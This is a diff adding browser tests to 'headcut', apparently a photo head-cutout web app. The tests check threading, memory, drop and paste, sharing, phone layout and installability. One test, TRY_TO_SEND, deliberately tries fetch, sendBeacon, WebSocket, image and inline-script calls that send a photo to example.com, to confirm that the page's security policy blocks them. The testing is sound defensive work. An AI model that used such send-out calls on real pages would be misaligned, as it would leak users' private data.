@@ -33,6 +33,8 @@ import headcut
 from headcut.cutout import merge
 from headcut.pipeline import shared_cutter
 from headcut.web.page import NOT_BUILT, built_page, export_static
+from headcut_train.manifest import HEAD_LEVEL, read_mask
+from headcut_train.prepare import prepare
 
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
 AXE = ROOT / "web" / "node_modules" / "axe-core" / "axe.min.js"
@@ -234,7 +236,89 @@ def test_necks_are_pythons(page: Page) -> None:
     assert_same_cut(image, expected)
 
 
+def test_one_thread_cuts_the_same(browser: Browser, address: str) -> None:
+    """Of several where the page may, and of one on iPhones and on hosts without the headers."""
+    with opened(browser, address) as page:
+        page.wait_for_selector("html[data-threads]")
+        cores = page.evaluate("navigator.hardwareConcurrency")
+        assert page.get_attribute("html", "data-threads") == str(min(4, cores))
+    with opened(browser, f"{address}?threads=1") as page:
+        pick(page, ASTRONAUT)
+        assert page.get_attribute("html", "data-threads") == "1"
+        assert_same_cut(saved(page), from_python(ASTRONAUT, crop=True))
+
+
+@pytest.mark.skipif(not Path("/proc/self/clear_refs").exists(), reason="memory is read from /proc")
+def test_a_photo_of_12_megapixels_needs_little_memory(
+    browser: Browser, page: Page, tmp_path: Path
+) -> None:
+    """Phones end a page that takes much; the full photo is there only to be decoded and saved."""
+    large = tmp_path / "large.jpg"
+    with Image.open(ASTRONAUT) as image:
+        image.resize((3464, 3464)).save(large)
+    processes = browser.new_browser_cdp_session().send("SystemInfo.getProcessInfo")["processInfo"]
+    folders = [Path(f"/proc/{p['id']}") for p in processes if p["type"] == "renderer"]
+    before = {folder: memory_mb(folder, "VmRSS") for folder in folders}
+    for folder in folders:
+        (folder / "clear_refs").write_text("5")  # the peak starts anew
+    pick(page, large)
+    assert saved(page).width > 1000
+    grown = [memory_mb(folder, "VmHWM") - before[folder] for folder in folders]
+    assert 50 < max(grown) < 350, grown
+
+
+def memory_mb(process: Path, row: str) -> float:
+    return int((process / "status").read_text().split(f"{row}:")[1].split()[0]) * 1024 / 1e6
+
+
 # ---------------------------------------------------------------- what people do
+
+
+@pytest.mark.parametrize("way", ["drop", "paste"])
+def test_a_photo_can_be_dropped_or_pasted(page: Page, way: str) -> None:
+    pick(page, ASTRONAUT)
+    page.evaluate("delete document.documentElement.dataset.ms")
+    page.evaluate(
+        """async ([way, bytes]) => {
+            const given = new DataTransfer();
+            given.items.add(new File([new Uint8Array(bytes)], "given.jpg", { type: "image/jpeg" }));
+            const event = way === "drop"
+                ? new DragEvent("drop", { dataTransfer: given })
+                : new ClipboardEvent("paste", { clipboardData: given });
+            document.dispatchEvent(event);
+        }""",
+        [way, list(ASTRONAUT.read_bytes())],
+    )
+    page.wait_for_selector("html[data-ms]")
+    settle(page)
+    with page.expect_download() as download:
+        page.click("#save")
+    assert download.value.suggested_filename == "given-head.png"
+
+
+def test_a_photo_can_be_taken_on_a_phone(browser: Browser, address: str) -> None:
+    with opened(browser, address, has_touch=True, is_mobile=True) as page:
+        with page.expect_file_chooser() as chooser:
+            page.click("#take")
+        assert chooser.value.element.get_attribute("capture") == "environment"
+
+
+def test_progress_is_shown_while_the_networks_load(browser: Browser, address: str) -> None:
+    """All that is loaded counts; the page answers meanwhile."""
+    context = browser.new_context()
+    page = context.new_page()
+    held: list[Any] = []
+    page.route("**/*.wasm", lambda route: held.append(route))
+    page.goto(address)
+    page.wait_for_timeout(1000)
+    page.click("#sample")
+    page.wait_for_selector("#progress[value]")
+    assert page.inner_text("#busy-word") == "Getting ready"
+    assert float(page.get_attribute("#progress", "value") or 1) == pytest.approx(2 / 3)
+    held[0].continue_()
+    page.wait_for_selector("#stage[data-settled=true]")
+    assert page.is_hidden("#busy")
+    context.close()
 
 
 def test_one_head_is_chosen_by_touching_it(page: Page, two_heads: Path) -> None:
@@ -258,6 +342,19 @@ def test_one_head_is_chosen_by_touching_it(page: Page, two_heads: Path) -> None:
     assert right.width < both.width / 2
     cut_outs = shared_cutter().cut(two_heads)
     assert_same_cut(right, cut_outs[1].render(headcut.SaveOptions(crop=True)))
+
+
+def test_a_choice_made_while_the_next_photo_opens_does_no_harm(page: Page, two_heads: Path) -> None:
+    """It is still of the heads of the photo before."""
+    pick(page, two_heads)
+    page.evaluate("delete document.documentElement.dataset.ms")
+    page.set_input_files("#file", ASTRONAUT)
+    for frame in ("Square", "Head"):
+        page.click(f"#frame [title='{frame}']")
+    page.wait_for_selector("html[data-ms]")
+    settle(page)
+    assert page.inner_text("#message") == "1 head found"
+    assert_same_cut(saved(page), from_python(ASTRONAUT, crop=True))
 
 
 def test_shapes_backgrounds_and_outline(page: Page) -> None:
@@ -346,6 +443,14 @@ def test_brush_adds_erases_and_takes_back_and_makes_a_training_pair(
     assert set(np.unique(levels)) == {0, 255}
     assert levels[415, 75] == 255
     assert levels[100, 220] == 0
+    folder = tmp_path / "pairs"
+    folder.mkdir()
+    for name, path in files.items():
+        shutil.copy(path, folder / name)
+    manifest, left_out = prepare(folder, "folder", tmp_path / "prepared", workers=1)
+    assert left_out == []
+    read = read_mask(manifest.file(manifest.pairs[0].mask))
+    assert np.array_equal(read == HEAD_LEVEL, levels == 255)
     page.click("#undo")
     settle(page)
     page.keyboard.press("Control+z")
@@ -371,6 +476,22 @@ def test_a_result_can_be_copied(browser: Browser, address: str) -> None:
         page.wait_for_selector("#message:text-is('Copied')")
         types = page.evaluate("navigator.clipboard.read().then((items) => items[0].types)")
         assert types == ["image/png"]
+
+
+def test_a_result_can_be_shared(browser: Browser, address: str) -> None:
+    """Chromium on Linux has no sharing, so its part is played here."""
+    with opened(browser, address) as page:
+        assert page.is_hidden("#share")
+        page.add_init_script(
+            """navigator.canShare = () => true;
+            navigator.share = async ({ files }) => {
+                document.documentElement.dataset.shared = `${files[0].name} ${files[0].type}`;
+            };"""
+        )
+        page.reload()
+        pick(page, ASTRONAUT)
+        page.click("#share")
+        page.wait_for_selector("html[data-shared='astronaut-head.png image/png']")
 
 
 def test_what_cannot_be_read_is_said(page: Page, tmp_path: Path) -> None:
@@ -411,6 +532,36 @@ def test_nothing_is_sent_and_it_works_offline(browser: Browser, address: str) ->
         assert np.array_equal(np.asarray(saved(page)), np.asarray(first))
 
 
+TRY_TO_SEND = """async () => {
+    const refused = [];
+    document.addEventListener("securitypolicyviolation", (v) => refused.push(v.effectiveDirective));
+    const script = Object.assign(document.createElement("script"), { textContent: "leaked = 1" });
+    const tries = {
+        fetch: () => fetch("https://example.com/", { method: "POST", body: "photo" }),
+        beacon: () => navigator.sendBeacon("https://example.com/", "photo"),
+        socket: () => new WebSocket("wss://example.com/"),
+        image: () => { new Image().src = "https://example.com/photo.png"; },
+        script: () => document.head.append(script),
+    };
+    for (const send of Object.values(tries)) try { await send(); } catch {}
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    return [...new Set(refused)].concat(typeof leaked);
+}"""
+"""Each way out of a page; returns what the policy refused."""
+
+
+def test_policy_refuses_every_way_out(browser: Browser, address: str) -> None:
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(address)
+    requests: list[str] = []
+    page.on("requestfinished", lambda request: requests.append(request.url))
+    refused = page.evaluate(TRY_TO_SEND)
+    context.close()
+    assert sorted(refused) == ["connect-src", "img-src", "script-src-elem", "undefined"]
+    assert not [url for url in requests if "example.com" in url]
+
+
 def test_policy_forbids_other_origins_and_inline_scripts(page: Page, address: str) -> None:
     """Even code that got into the page could send a photo nowhere."""
     with urllib.request.urlopen(address) as answer:
@@ -435,6 +586,8 @@ def test_a_static_folder_works_on_any_host(browser: Browser, tmp_path: Path) -> 
         try:
             address = f"http://127.0.0.1:{host.server_address[1]}/headcut/"
             with opened(browser, address) as page:
+                pick(page, ASTRONAUT)
+                assert page.get_attribute("html", "data-threads") == "1"
                 page.evaluate("navigator.serviceWorker.ready.then(() => true)")
                 page.reload()
                 assert page.evaluate("crossOriginIsolated") is True
@@ -473,6 +626,29 @@ def test_axe_finds_nothing_serious(browser: Browser, address: str, scheme: Any) 
             assert_well(tab)
 
 
+@pytest.mark.parametrize(("width", "height"), [(375, 667), (667, 375)])
+def test_every_control_can_be_touched_on_a_small_phone(
+    browser: Browser, address: str, width: int, height: int
+) -> None:
+    """Playwright refuses to click on what something else covers."""
+    with opened(browser, address, viewport={"width": width, "height": height}) as page:
+        page.set_default_timeout(PATIENCE_MS)
+        pick(page, ASTRONAUT)
+        for fieldset, title in (
+            ("frame", "Photo"),
+            ("background", "Blurred photo"),
+            ("neck", "Keep"),
+        ):
+            choose(page, fieldset, title)
+        for control in ("#outline", "#room", "#compare", "#tab-brush", "#brush-size", "#tab-heads"):
+            page.click(control)
+        settle(page)
+        page.click("#heads button")
+        stage = page.locator("#stage").bounding_box()
+        assert stage
+        assert min(stage["width"], stage["height"]) > 220
+
+
 def test_keyboard_is_enough(page: Page) -> None:
     pick(page, ASTRONAUT)
     page.focus("#tab-look")
@@ -489,6 +665,15 @@ def test_keyboard_is_enough(page: Page) -> None:
     with page.expect_download():
         page.keyboard.press("Enter")
     look(page, "look")
+
+
+def test_it_can_be_installed(browser: Browser, address: str) -> None:
+    with opened(browser, address) as page:
+        page.evaluate("navigator.serviceWorker.ready.then(() => true)")
+        browser_says = page.context.new_cdp_session(page)
+        assert browser_says.send("Page.getAppManifest")["errors"] == []
+        errors = browser_says.send("Page.getInstallabilityErrors")["installabilityErrors"]
+        assert {error["errorId"] for error in errors} <= {"in-incognito"}  # as test browsers are
 
 
 def test_export_goes_into_a_new_folder_only(tmp_path: Path) -> None:
